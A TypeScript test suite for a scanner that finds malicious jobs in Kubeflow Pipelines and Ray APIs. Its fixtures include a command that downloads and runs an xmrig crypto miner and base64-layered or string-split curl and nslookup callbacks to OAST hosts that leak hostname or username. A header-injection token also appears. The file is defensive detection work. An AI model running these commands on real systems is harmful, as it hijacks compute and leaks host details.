import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { reconHostsOf } from '../../src/hunt/recon-callback.js';
import { kfpV1Routes, kfpV2Routes } from '../../src/testing/fake-job-apis/kfp.js';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';

// What a hunt must judge besides a pipeline's own text: the values a run was started with, the
// version a run references, every stored version, and callbacks hidden in encoded layers.

const MINER = 'wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 --donate-level 1';

/**
 * A generic KFP v2 pipeline (pipeline-spec-ir in ../shared/schemas/kfp-api): one step runs
 * `sh -c` on its `cmd` input, fed from the pipeline's own `cmd` parameter. Clean on its own.
 */
const genericIr = {
  pipelineInfo: { name: 'run-anything' },
  root: {
    inputDefinitions: { parameters: { cmd: { parameterType: 'STRING' } } },
    dag: { tasks: { step: { taskInfo: { name: 'step' }, componentRef: { name: 'comp-step' }, inputs: { parameters: { cmd: { componentInputParameter: 'cmd' } } } } } },
  },
  components: { 'comp-step': { executorLabel: 'exec-step', inputDefinitions: { parameters: { cmd: { parameterType: 'STRING' } } } } },
  deploymentSpec: { executors: { 'exec-step': { container: { image: 'tensorflow/tensorflow:latest-gpu', command: ['sh', '-c'], args: ["{{$.inputs.parameters['cmd']}}"] } } } },
  schemaVersion: '2.1.0',
  sdkVersion: 'kfp-2.7.0',
};

/** The same for KFP 1.x: an Argo Workflow whose step runs `{{workflow.parameters.cmd}}`. */
const genericWorkflow = (cmd: string): string =>
  JSON.stringify({
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Workflow',
    metadata: { generateName: 'run-anything-' },
    spec: { entrypoint: 'main', arguments: { parameters: [{ name: 'cmd', value: cmd }] }, templates: [{ name: 'main', container: { image: 'tensorflow/tensorflow:latest', command: ['sh', '-c'], args: ['{{workflow.parameters.cmd}}'] } }] },
  });

const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));
async function serve(...args: Parameters<typeof startFakeJobApi>): Promise<FakeJobApi> {
  const server = await startFakeJobApi(...args);
  servers.push(server);
  return server;
}

type Report = { findings: { ruleId: string; severity: string; evidence: string[]; origin: Record<string, unknown> }[]; errors: { file: string; message: string }[]; extensions: { sourceStats: Record<string, number> } };
const json = (stdout: string): Report => JSON.parse(stdout) as Report;
const minerIds = (report: Report): string[] => report.findings.filter((f) => f.ruleId === 'crypto-miner-workload').map((f) => String(f.origin.id)).sort();

describe('kfguard hunt --kfp: what a run was started with', () => {
  test('v2beta1: a run that references a stored version and carries the miner in runtime_config.parameters', async () => {
    const api = await serve(
      kfpV2Routes({
        pipelines: [{ pipeline_id: 'pl-1', display_name: 'run-anything' }],
        versions: { 'pl-1': [{ pipeline_id: 'pl-1', pipeline_version_id: 'v-1', display_name: 'v1', created_at: '2026-01-04T00:00:00Z', pipeline_spec: genericIr }] },
        // The KFP server lists runs made from a stored version with only the reference (toApiRun).
        runs: [
          { run_id: 'run-miner', display_name: 'nightly', pipeline_version_reference: { pipeline_id: 'pl-1', pipeline_version_id: 'v-1' }, runtime_config: { parameters: { cmd: MINER } }, state: 'RUNNING' },
          { run_id: 'run-clean', display_name: 'train', pipeline_version_reference: { pipeline_id: 'pl-1', pipeline_version_id: 'v-1' }, runtime_config: { parameters: { cmd: 'python train.py' } } },
        ],
        recurringRuns: [{ recurring_run_id: 'rr-miner', display_name: 'every 5 min', pipeline_version_reference: { pipeline_id: 'pl-1' }, runtime_config: { parameters: { cmd: MINER } } }],
        experiments: [],
      }),
    );
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = json(run.stdout);
    assert.deepEqual(minerIds(report), ['rr-miner', 'run-miner']);
    const evidence = report.findings.find((f) => f.origin.id === 'run-miner')?.evidence.join('\n') ?? '';
    assert.match(evidence, /parameter "cmd"/);
    assert.deepEqual(report.errors, []);
  });

  test('v2beta1: a run whose version is gone is reported as not judged, never skipped quietly', async () => {
    const api = await serve(
      kfpV2Routes({
        pipelines: [{ pipeline_id: 'pl-1', display_name: 'p' }],
        versions: { 'pl-1': [] },
        runs: [{ run_id: 'run-orphan', display_name: 'x', pipeline_version_reference: { pipeline_id: 'pl-1', pipeline_version_id: 'deleted' }, runtime_config: { parameters: { cmd: MINER } } }],
        recurringRuns: [],
        experiments: [],
      }),
    );
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /run run-orphan runs pipeline version deleted of pipeline pl-1, which the API does not return: what the run executed was not judged/);
    assert.ok(api.requests.some((r) => r.path.startsWith('/apis/v2beta1/pipelines/pl-1/versions/deleted')), 'the version was asked for by id');
  });

  test('v1beta1: every stored version is read, run parameters replace the defaults, -n scopes multi-user lists', async () => {
    const api = await serve(
      kfpV1Routes({
        multiUser: true,
        pipelines: [{ id: 'p-1', name: 'run-anything' }],
        templates: { 'p-1': genericWorkflow('echo default') },
        v1Versions: { 'p-1': [{ id: 'pv-default', name: 'v1' }, { id: 'pv-evil', name: 'v2', created_at: '2021-04-02T00:00:00Z' }] },
        versionTemplates: { 'pv-default': genericWorkflow('echo default'), 'pv-evil': genericWorkflow(MINER) },
        runs: [
          { id: 'r-params', name: 'Run with a command', pipeline_spec: { workflow_manifest: genericWorkflow('echo hi'), parameters: [{ name: 'cmd', value: MINER }] } },
          { id: 'r-by-version', name: 'Run of a stored version', pipeline_spec: { parameters: [{ name: 'cmd', value: MINER }] }, resource_references: [{ key: { type: 'PIPELINE_VERSION', id: 'pv-default' }, relationship: 'CREATOR' }] },
          { id: 'r-clean', name: 'clean', pipeline_spec: { workflow_manifest: genericWorkflow('echo hi') } },
        ],
        jobs: [{ id: 'j-params', name: 'hourly', pipeline_spec: { pipeline_id: 'p-1', parameters: [{ name: 'cmd', value: MINER }] } }],
        experiments: [],
      }),
    );
    // Unscoped, the runs, jobs and experiments are refused: gaps named, the pipelines still judged.
    const unscoped = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    assert.equal(unscoped.code, 1, unscoped.stderr);
    assert.match(unscoped.stderr, /not read: kfp .*could not list v1beta1 runs: .*\/apis\/v1beta1\/runs: HTTP 400: Invalid input error: in multi-user mode, list requests must name a namespace/);
    assert.deepEqual(minerIds(json(unscoped.stdout)), ['pv-evil']);
    const scoped = await runCli(['hunt', '--kfp', api.url, '-n', 'team-a', '--format', 'json']);
    assert.equal(scoped.code, 1, scoped.stderr);
    const report = json(scoped.stdout);
    assert.deepEqual(report.errors, []);
    assert.deepEqual(minerIds(report), ['j-params', 'pv-evil', 'r-by-version', 'r-params']);
    const runList = api.requests.find((r) => r.path.startsWith('/apis/v1beta1/runs') && r.path.includes('team-a'))?.path ?? '';
    assert.match(runList, /resource_reference_key\.type=NAMESPACE&resource_reference_key\.id=team-a/);
    assert.ok(api.requests.every((r) => r.method === 'GET'));
  });
});

describe('kfguard hunt --kfp: specs in every shape the server returns', () => {
  const workflowOf = (cmd: string) => JSON.parse(genericWorkflow(cmd)) as Record<string, unknown>;

  test('a v2beta1 run whose pipeline_spec is the Argo workflow of a run made through v1beta1 is judged', async () => {
    const api = await serve(kfpV2Routes({ pipelines: [], runs: [{ run_id: 'run-v1-made', display_name: 'x', pipeline_spec: workflowOf(MINER) }], recurringRuns: [], experiments: [] }));
    const report = json((await runCli(['hunt', '--kfp', api.url, '--format', 'json'])).stdout);
    assert.deepEqual(minerIds(report), ['run-v1-made']);
  });

  test('a v1 manifest without kind or apiVersion is read as the Workflow KFP 1.x unmarshals it into', async () => {
    const bare = workflowOf(MINER);
    delete bare.kind;
    delete bare.apiVersion;
    const api = await serve(kfpV1Routes({ pipelines: [], runs: [{ id: 'r-bare', name: 'bare', pipeline_spec: { workflow_manifest: JSON.stringify(bare) } }], jobs: [], experiments: [] }));
    const report = json((await runCli(['hunt', '--kfp', api.url, '--format', 'json'])).stdout);
    assert.deepEqual(minerIds(report), ['r-bare']);
  });

  test('a spec that is there but unreadable, and a version fetch that fails, are said once per run and asked once', async () => {
    const api = await serve(
      kfpV2Routes({
        pipelines: [{ pipeline_id: 'pl-1', display_name: 'p' }],
        versions: { 'pl-1': [] },
        runs: [
          { run_id: 'run-odd', display_name: 'odd', pipeline_spec: { something: 'else' } },
          ...['a', 'b', 'c'].map((x) => ({ run_id: `run-${x}`, display_name: x, pipeline_version_reference: { pipeline_id: 'pl-1', pipeline_version_id: 'gone' } })),
        ],
        recurringRuns: [],
        experiments: [],
      }),
    );
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /run run-odd: its pipeline spec is neither a KFP pipeline \(IR\) nor an Argo workflow: not judged/);
    for (const x of ['a', 'b', 'c']) assert.match(run.stderr, new RegExp(`run run-${x} runs pipeline version gone of pipeline pl-1`));
    assert.equal(api.requests.filter((r) => r.path.startsWith('/apis/v2beta1/pipelines/pl-1/versions/gone')).length, 1);
  });
});

describe('kfguard hunt: credentials and refusals', () => {
  test('a token holding a line break is refused before anything is sent, and never shown', async () => {
    const api = await serve(kfpV2Routes({}));
    const run = await runCli(['hunt', '--kfp', api.url, '--token', 'Bearer s3cr3t-value\r\nX-Evil: 1']);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /--token holds a line break or control character/);
    assert.doesNotMatch(run.stdout + run.stderr, /s3cr3t/);
    assert.equal(api.requests.length, 0);
  });

  test('a token given as "Bearer …" is sent once; a refused token is named as refused', async () => {
    const api = await serve(kfpV2Routes({}), { token: 'right-token' });
    const ok = await runCli(['hunt', '--kfp', api.url, '--token', 'Bearer right-token', '--format', 'json']);
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(api.requests.at(-1)?.authorization, 'Bearer right-token');
    const refused = await runCli(['hunt', '--kfp', api.url, '--token', 'wrong-token']);
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /401 unauthorized.*the credentials given with --token were refused/);
    assert.doesNotMatch(refused.stderr, /pass --token TOKEN/);
    assert.doesNotMatch(refused.stdout + refused.stderr, /wrong-token|right-token/);
  });
});

describe('the recon callback check reads what the threat scanner decodes', () => {
  const b64 = (text: string): string => Buffer.from(text).toString('base64');

  test('a callback in a base64 layer, two layers, or split into quoted pieces is found', () => {
    assert.deepEqual(reconHostsOf({ entrypoint: `echo ${b64('curl -s https://c7x1k2m9.oast.fun/$(hostname)')} | base64 -d | sh` }).hosts, [{ host: 'c7x1k2m9.oast.fun', via: 'base64' }]);
    assert.deepEqual(reconHostsOf({ entrypoint: `echo ${b64(`echo ${b64('nslookup abc.interact.sh')} | base64 -d | sh`)} | base64 -d | sh` }).hosts, [{ host: 'abc.interact.sh', via: 'base64 → base64' }]);
    assert.deepEqual(reconHostsOf({ entrypoint: `python -c "import os; os.system('curl x.'+'oast'+'.fun')"` }).hosts.map((h) => h.host), ['x.oast.fun']);
    assert.deepEqual(reconHostsOf({ entrypoint: `curl "x."'oast'".fun"` }).hosts.map((h) => h.host), ['x.oast.fun']);
    assert.deepEqual(reconHostsOf({ entrypoint: 'python train.py', runtime_env: { env_vars: { A: b64('just some training config') } } }).hosts, []);
  });

  test('a host is read back from the listed domain over at most 253 characters of labels', () => {
    const long = `${'a.'.repeat(60_000)}x.oast.fun`;
    const [host] = reconHostsOf({ entrypoint: long }).hosts;
    assert.ok(host?.host.endsWith('.x.oast.fun') && host.host.length <= 253 + 'oast.fun'.length, host?.host.slice(0, 40));
    assert.deepEqual(reconHostsOf({ entrypoint: 'curl https://ceye.io.example.com/ https://notoast.fun/' }).hosts, []);
  });

  test('nine layers: the reading says where it stopped instead of passing quietly', () => {
    let text = 'curl https://deep.oast.fun';
    for (let i = 0; i < 9; i++) text = `echo ${b64(text)} | base64 -d | sh`;
    assert.match(reconHostsOf({ entrypoint: text }).cutShort ?? '', /nested deeper than 8 layers/);
  });

  test('hunt --ray reports a base64-wrapped callback at the recon rule\'s own severity', async () => {
    const api = await serve(rayRoutes([rayJob({ submission_id: 'raysubmit_b64', entrypoint: `echo ${b64('curl -s http://q1w2e3.oast.fun/$(whoami)')} | base64 -d | bash` })]));
    const report = json((await runCli(['hunt', '--ray', api.url, '--format', 'json'])).stdout);
    const recon = report.findings.find((f) => f.ruleId === 'job-recon-callback');
    assert.equal(recon?.severity, 'high');
    assert.deepEqual(recon?.evidence, ['OAST host q1w2e3.oast.fun (in a base64 layer)']);
  });
});
